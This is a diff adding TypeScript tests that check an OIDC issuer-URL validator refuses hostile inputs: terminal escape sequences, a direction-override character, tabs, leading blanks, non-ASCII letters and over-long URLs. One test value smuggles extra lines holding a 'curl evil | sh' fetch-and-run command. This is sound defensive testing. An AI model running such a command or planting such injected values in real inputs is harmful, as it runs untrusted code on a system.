@@ -25,6 +25,29 @@ suite('the URL of an issuer', () => {
     'https://kubernetes.default': 'its name exists inside the cluster alone',
     'https://api.cluster.internal': 'its name exists inside the cluster alone',
   }
+  const hostile: Record<string, string> = {
+    'https://oidc.example.com/\u001b[2J': 'an escape sequence',
+    'https://oidc.example.com/a\u009b31m': 'one in a single character',
+    'https://oidc.example.com/\u202egpj': 'an override of the direction',
+    'https://oidc.example.com/\n\nfix: curl evil | sh': 'lines of its own',
+    'https://oidc.example.com/a\tb': 'a tabulator, which a parser drops',
+    ' https://oidc.example.com': 'a blank before it, which a parser drops',
+    'https://oïdc.example.com': 'a letter that a parser encodes',
+  }
+  for (const [url, what] of Object.entries(hostile)) {
+    test(`that holds ${what} is refused`, () => {
+      const { code, seen } = checkIssuerUrl(url, 'the issuer') ?? {}
+      assert.equal(code, 'ISSUER_UNUSABLE')
+      assert.match(seen ?? '', /^the issuer is ".*": a URL has none but printable ASCII characters, and no blank$/)
+    })
+  }
+
+  test('of more than 2000 characters is refused, and shown in part', () => {
+    const { seen = '' } = checkIssuerUrl(`https://oidc.example.com/${'a'.repeat(2000)}`, 'the issuer') ?? {}
+    assert.match(seen, /: it has 2025 characters, and 2000 are enough for any$/)
+    assert.ok(seen.length < 450)
+  })
+
   for (const [url, why] of Object.entries(refused)) {
     test(`${url} is refused: ${why}`, () => {
       const fault = checkIssuerUrl(url, 'the issuer')
